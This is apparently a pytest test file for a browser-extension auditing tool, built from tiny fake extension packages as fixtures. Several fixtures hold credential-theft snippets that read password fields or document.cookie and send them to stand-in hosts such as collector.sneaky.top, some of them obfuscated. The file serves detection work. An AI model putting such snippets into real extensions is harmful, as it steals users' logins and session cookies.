"""Unit cases of the audit: one small package per case, all in one audit run."""

import json

import pytest
from pyspark.sql import functions as F

from packsift.plans.audit import Audit

BASE = {"manifest_version": 3, "name": "Case", "version": "1"}
CASES = {
    "listeners": {"content.js": 'document.addEventListener("keyup", f);\nel.addEventListener("keypress", f);\nform.addEventListener("submit", f);'},
    "theft": {"a.js": 'const p = document.querySelector("input[type=password]");\nconst c = document.cookie;'},
    "injection": {"a.js": 'const s = document.createElement("script");\nel.innerHTML = x;'},
    "exfil": {"a.js": 'fetch("https://one.example.org/a");\nnavigator.sendBeacon("https://two.example.org/b", d);'},
    "alarm": {"a.js": 'chrome.alarms.create("x", { periodInMinutes: 5 });'},
    "selectors": {"a.js": 'document.getElementById("user");\ndocument.querySelectorAll(".row");'},
    "broken": {"a.js": "function ( { ]] ;;", "b.js": ""},
    "navigation_only": {"a.js": 'window.open("https://nav.example.org/x");\nchrome.tabs.create({ url: "https://tab.example.org" });\nlocation.href = "https://loc.example.org";'},
    "contacts": {"a.js": 'fetch("https://api.one.io/x");\nnew WebSocket("wss://socket.two.io/s");\nnavigator.sendBeacon("https://beacon.three.io/b");'},
    "concatenated": {"a.js": 'const id = 7;\nfetch("https://join.example.org/" + id);\nfetch(`https://tpl.example.org/${id}`);'},
    "xhr": {"a.js": 'const HOST = "https://xhr.example.org/v1";\nconst x = new XMLHttpRequest();\nx.open("GET", HOST);'},
    "chained": {"a.js": 'const A = "https://chain.example.org";\nconst B = A + "/api";\nconst cfg = { url: B, other: "https://conf.example.org" };\nfetch(cfg.url);\nfetch(cfg.other);'},
    "remote": {"a.js": 'const s = document.createElement("script");\ns.src = "https://code.example.org/x.js";\nlet f = document.createElement("iframe");\nf.src = "https://frame.example.org/";'},
    "promo": {"a.js": 'const u = "https://shop.10xprofit.io/?asin=B00";\nwindow.open(u + location.hostname);'},
    "profile": {"a.js": 'window.open("https://social.example.org/me");'},
    "flows": {"a.js": 'const p = document.querySelector("input[type=password]").value;\nfetch("https://f.example.org", { body: p });\nchrome.runtime.sendMessage(document.cookie);'},
    "background_message": {"a.js": 'const p = document.cookie;\nchrome.tabs.sendMessage(1, "ping");'},
    "seed": {"a.js": 'const seed = "random seed value";'},
    "popup_link": {"popup/popup.js": 'window.open("https://www.instagram.com/us");'},
    "hosted": {"a.js": 'fetch("https://us-east1-p.cloudfunctions.net/a");\nfetch("https://us-east1-p.cloudfunctions.net/b");'},
    "background_only": {"background.js": 'fetch("https://x.example.org/a");\nchrome.tabs.sendMessage(1, "x");'},
    "hidden_content": {"content/main.js": 'var _0x12ab = "\\x61\\x62\\x63";\nvar _0xbeef = _0x12ab; var _0xcafe = _0xbeef; var _0xfeed = 1;\nconst p = document.querySelector("input[type=password]").value;\nfetch("https://h.example.org", { body: p });'},
    "two_hop": {"content/main.js": 'chrome.runtime.sendMessage(document.cookie);', "background.js": 'fetch("https://collector.sneaky.top/in", { method: "POST" });'},
    "commented": {"a.js": '// fetch("https://c.example.org")\n/* eval("x")\n*/\nconst t = "a // b";'},
    "lines": {"a.js": 'fetch(\n  "https://multi.example.org/x",\n  { method: "POST",\n    body: document.cookie });\nconst q = x\n  .then(f);\nfetch("https://semi.example.top/x;y=" + document.cookie);'},
    "one_line": {"a.js": "".join(f"f{i}(a,b);" if i % 2 else f"g{i}(h(x), y).z(" for i in range(2000))},
    "links": {"a.js": "const k1 = 'https://deep';" + "".join(f"const k{i} = k{i - 1} + '{'.example' if i == 2 else '.org/' if i == 3 else 'x'}';" for i in range(2, 31)) + "fetch(k30);"
              + "let t0 = document.cookie;" + "".join(f"let t{i} = t{i - 1};" for i in range(1, 151)) + 'sendBeacon("https://s.example.org", t150);'},
    "big": {"a.js": "// filler\n" * 300_000 + 'fetch("https://late.example.org/x");'},
    "decoded": {"a.js": 'const a = atob("aGVsbG8=");\nconst b = "\\x68\\x69\\x21";\nconst bad = atob("!!");\nconst c = String.fromCharCode(72, 105);'},
}
MANIFESTS = {
    "listeners": {"content_scripts": [{"matches": ["*://*/*"], "js": ["content.js"]}]},
    "hidden_content": {"content_scripts": [{"matches": ["https://a.example.org/*"], "js": ["content/main.js"]}]},
    "two_hop": {"permissions": ["cookies", "storage"], "host_permissions": ["<all_urls>"], "background": {"service_worker": "background.js"},
                "content_scripts": [{"matches": ["<all_urls>"], "js": ["content/main.js"]}]},
    "background_only": {"background": {"service_worker": "background.js"}},
    "popup_link": {"action": {"default_popup": "popup/popup.html"}},
}


class CaseAudit(Audit):
    def __init__(self, spark):
        files = [(case, path, code) for case, scripts in CASES.items() for path, code in scripts.items()]
        self.scripts = spark.createDataFrame(files, "ext_id string, path string, raw string")
        texts = [(case, json.dumps(BASE | MANIFESTS.get(case, {}))) for case in CASES]
        self.manifest_texts = spark.createDataFrame(texts, "ext_id string, text string")
        self.packages = self.manifest_texts.select("ext_id")
        page = '<script src="popup.js"></script>'
        self.extra_files = spark.createDataFrame([("popup_link", "popup/popup.html", page)], "ext_id string, path string, text string")

    @property
    def all_files(self):
        both = self.scripts.select("ext_id", "path", F.col("raw").alias("text")).unionByName(self.extra_files)
        return both.withColumn("size_bytes", F.length("text").cast("bigint"))


@pytest.fixture(scope="module")
def audit(spark):
    return CaseAudit(spark)


@pytest.fixture(scope="module")
def found(audit):
    """{case: {(kind, detail)}} of the final findings."""
    result = {case: set() for case in CASES}
    for row in audit.findings.select("ext_id", "kind", "detail").collect():
        result[row.ext_id].add((row.kind, row.detail))
    return result


@pytest.fixture(scope="module")
def contacts(audit):
    result = {case: set() for case in CASES}
    for row in audit.contacts.select("ext_id", "domain").collect():
        result[row.ext_id].add(row.domain)
    return result


def test_listeners(found):
    assert {("input_listener", e) for e in ("keyup", "keypress", "submit")} <= found["listeners"]


def test_theft_and_injection(found):
    assert ("cookie_read", "document.cookie") in found["theft"]
    assert ("risky_call", "credential selector:password") in found["theft"]
    assert {("dom_injection", "document.createElement"), ("dom_injection", "innerHTML")} <= found["injection"]


def test_exfiltration_and_persistence(found):
    assert {("risky_call", "fetch"), ("risky_call", "navigator.sendBeacon")} <= found["exfil"]
    assert ("risky_call", "chrome.alarms.create") in found["alarm"]


def test_selectors(audit):
    from packsift.operators.lexical import selectors

    rows = {(r.method, r.selector) for r in selectors(audit.calls).filter("ext_id = 'selectors'").collect()}
    assert rows == {("document.getElementById", "user"), ("document.querySelectorAll", ".row")}


def test_broken_code_does_not_fail(found):
    assert all(kind in ("orphan_file", "minified") for kind, _ in found["broken"])


def test_navigation_is_no_contact(contacts):
    assert contacts["navigation_only"] == set()


def test_contacted_hosts(contacts):
    assert contacts["contacts"] == {"api.one.io", "socket.two.io", "beacon.three.io"}
    assert contacts["concatenated"] == {"join.example.org", "tpl.example.org"}
    assert contacts["xhr"] == {"xhr.example.org"}
    assert contacts["chained"] == {"chain.example.org", "conf.example.org"}
    assert contacts["remote"] == {"code.example.org", "frame.example.org"}


def test_navigation_context(audit):
    rows = {(r.ext_id, r.domain) for r in audit.navigations.filter("ext_id in ('promo', 'profile')").collect()}
    assert rows == {("promo", "shop.10xprofit.io")}


def test_flows(audit):
    rows = {(r.source, r.sink) for r in audit.flows.filter("ext_id = 'flows'").collect()}
    assert ("DOM selection via document.querySelector", "network sink fetch") in rows
    assert ("document.cookie", "extension message sink chrome.runtime.sendMessage") in rows
    assert audit.flows.filter("ext_id = 'background_message'").count() == 0


def test_plain_seed_is_no_credential(found):
    assert not any("credential" in detail for _, detail in found["seed"])


def test_links_and_hosting_are_not_domain_findings(audit):
    named = {r.ext_id for r in audit.domain_findings.filter("ext_id in ('popup_link', 'hosted')").collect()}
    assert named == set()


def test_no_correlation_without_source(audit):
    rules = {r.rule for r in audit.correlations.filter("ext_id = 'background_only'").collect()}
    assert not rules & {"cor-A1", "cor-A3", "cor-B11"}


def test_obfuscated_content_with_flow(found):
    kinds = {kind for kind, _ in found["hidden_content"]}
    assert {"obfuscated", "data_flow", "correlation"} <= kinds


def test_cross_file_correlation(audit):
    rules = {r.rule for r in audit.correlations.filter("ext_id = 'two_hop'").collect()}
    assert {"cor-B10", "cor-B11"} <= rules
    assert {r.category for r in audit.domain_findings.filter("domain = 'collector.sneaky.top'").collect()} == {"unknown"}


def test_comments_are_removed_and_lines_kept(audit):
    row = audit.texts.filter("ext_id = 'commented'").first()
    assert row.code == '\n\n\nconst t = "a // b";'


def test_calls_over_lines_and_cuts_in_literals(audit, contacts):
    assert contacts["lines"] == {"multi.example.org", "semi.example.top"}
    rows = {(r.line, r.callee): r.args for r in audit.calls.filter("ext_id = 'lines'").collect()}
    assert rows[1, "fetch"].startswith(' "https://multi') or rows[1, "fetch"].strip().startswith('"https://multi')
    assert rows[7, "fetch"] == '"https://semi.example.top/x;y=" + document.cookie'
    assert {(r.line, r.source) for r in audit.flows.filter("ext_id = 'lines'").collect()} == {(1, "document.cookie"), (7, "document.cookie")}


def test_arguments_are_linear_in_the_code(audit):
    total = audit.calls.filter("ext_id = 'one_line'").agg(F.sum(F.length("args")), F.count("*")).first()
    assert total[1] > 2000 and total[0] < 3 * len(CASES["one_line"]["a.js"])


def test_long_chains(audit, contacts):
    assert "deep.example.org" in contacts["links"]
    assert {r.var: r.source for r in audit.tainted.filter("ext_id = 'links'").collect()}["t150"] == "document.cookie"


def test_files_of_any_size_are_analysed(contacts, found):
    assert contacts["big"] == {"late.example.org"} and ("risky_call", "fetch") in found["big"]


def test_decoded_literals(audit):
    from packsift.operators.signals import decoded_literals

    rows = {(r.method, r.decoded) for r in decoded_literals(audit.scripts).filter("ext_id = 'decoded'").collect()}
    assert rows == {("base64", "hello"), ("hex", "hi!"), ("char_codes", "Hi")}


def test_invariants(audit):
    """Scores add up, findings are unique, every package has 13 states."""
    rows = audit.findings.groupBy("ext_id", "path", "line", "kind", "detail").count()
    assert rows.filter("count > 1").count() == 0
    assert {r["count"] for r in audit.states.groupBy("ext_id").count().collect()} == {13}
    parts = audit.audit_score.filter("abs(score - round(weighted + url_points + domain_points, 1)) > 1e-9")
    assert parts.count() == 0
    used = audit.manifests.select("ext_id", F.explode("api_perms").alias("permission")).distinct()
    assert used.count() == used.join(audit.used_permissions, ["ext_id", "permission"], "left_semi").count() + audit.unused_permissions.count()
